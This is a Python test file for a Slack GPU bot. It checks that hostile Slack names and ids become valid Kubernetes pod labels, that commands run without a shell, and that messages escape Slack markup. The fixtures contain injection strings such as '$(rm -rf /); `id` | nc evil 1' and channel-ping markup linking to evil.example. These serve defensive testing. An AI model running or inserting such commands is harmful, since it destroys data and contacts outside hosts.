"""Names from Slack reach the cluster and the channel only made safe: labels sanitised, text escaped.

Users whose names carry Slack markup, shell, unicode or 300 characters, and ids Slack has never issued,
run a workload through the real bot. Their pod must be valid by Kubernetes' rules (`kube_rules`), carry
the exact id and name only in annotations, find its way back through the owner label (`/gpu status` and
`/gpu release` select by it), and run the typed argv with no shell around it. Every message the bot
sent must hold the names escaped, so `<!channel>` in a name never pings a channel.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given

from bot import runtime
from bot.core import labels, models, podspec, workloads
from sim.cluster import world
from sim.slack.runner import BackgroundSlack
from sim.slack.transcript import User
from tests.hostile import fuzzing, hostile_text, kube_rules
from tests.integration.botkit import CUDA, WAIT, emulator_config, wait_for_pods

HOSTILE_USERS = (
    User("U0MARKUP1", "<!channel> &amp; <@U_ADMIN> <http://evil.example|click>"),
    User("U0SHELL01", "$(rm -rf /); `id` | nc evil 1"),
    User("U0LONG001", "n" * 300),
    User("W0ENTERPRISE1", "ent.user_name-1"),
    User("U:ZALGO/..", "z\u0337a\u0337l\u0337g\u0337o\u0337 \u202eevil"),
    User("u-lower-case-id-that-is-much-longer-than-any-label-value-may-be-at-all", "long-id"),
)
PROFILE = models.GpuProfile(name="t4")
NOW = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)


@pytest.fixture
def slack(slack_env: None) -> Iterator[BackgroundSlack]:
    with BackgroundSlack(emulator_config(HOSTILE_USERS)) as running:
        yield running


def told(slack: BackgroundSlack, user: str) -> list[str]:
    return [e["text"] for e in slack.ephemerals(user) if e["source"] == "chat.postEphemeral"]


@pytest.mark.parametrize("user", HOSTILE_USERS, ids=lambda u: u.id)
def test_a_hostile_slack_identity_becomes_a_valid_pod_and_escaped_text(
    sim: world.BackgroundWorld, slack: BackgroundSlack, bot: runtime.Bot, user: User
) -> None:
    argv = ["python", "-c", "import os; os.system('id')", "$(id)", ";", "&&", "|"]
    text = f"run {CUDA} -- {hostile_text.quoted(argv)}"
    assert slack.type_command(user.id, "C_GPU", "/gpu", text).acked
    (pod,) = wait_for_pods(sim, slack)
    assert not kube_rules.pod_problems(pod)
    metadata = pod["metadata"]
    assert metadata["labels"][labels.OWNER_LABEL] == labels.to_label_value(user.id)
    assert metadata["annotations"][labels.REQUESTER_ANNOTATION] == user.id
    assert metadata["annotations"][labels.REQUESTER_NAME_ANNOTATION] == user.name
    (container,) = pod["spec"]["containers"]
    assert container["command"] == argv and "args" not in container
    assert not kube_rules.shell_wrapped(container)

    slack.type_command(user.id, "C_GPU", "/gpu", "status")  # found again through the owner label
    reports = lambda: [t for t in told(slack, user.id) if "Your workloads" in t]  # noqa: E731
    report = slack.wait_until(reports, timeout=WAIT)
    assert f"`{metadata['name']}`" in report[0]
    slack.type_command(user.id, "C_GPU", "/gpu", "release")
    slack.wait_until(
        lambda: (
            f"Released `{metadata['name']}`. Its pod is stopping; the thread says when the GPU is back."
            in told(slack, user.id)
        ),
        timeout=WAIT,
    )

    sent = [str(call.params) for call in slack.calls() if call.method.startswith("chat.")]
    for markup in ("<!channel>", "<@U_ADMIN>", "<http://evil.example"):
        assert not any(markup in params for params in sent), markup


@fuzzing.fuzz(0.02)
@given(hostile_text.slack_ids, hostile_text.slack_names, hostile_text.slack_ids)
def test_any_slack_identity_gives_valid_labels_and_keeps_the_exact_id(
    user_id: str, user_name: str, team_id: str
) -> None:
    owner = models.Owner(user_id, user_name, team_id)
    request = models.RunRequest(image="ubuntu", text="run ubuntu")
    pod = podspec.build_pod(
        request, PROFILE, owner, now=NOW, lease=timedelta(hours=4), channel="C0GPU", thread_ts="1.2",
        namespace="default",
    )  # fmt: skip
    assert not kube_rules.pod_problems(pod)
    owner_label = pod["metadata"]["labels"][labels.OWNER_LABEL]
    assert (owner_label == user_id) is (not kube_rules.label_value(user_id))  # a valid id passes unchanged
    workload = workloads.from_pod(pod)
    assert workload is not None and workload.owner_id == user_id  # ownership is the exact id, never the label
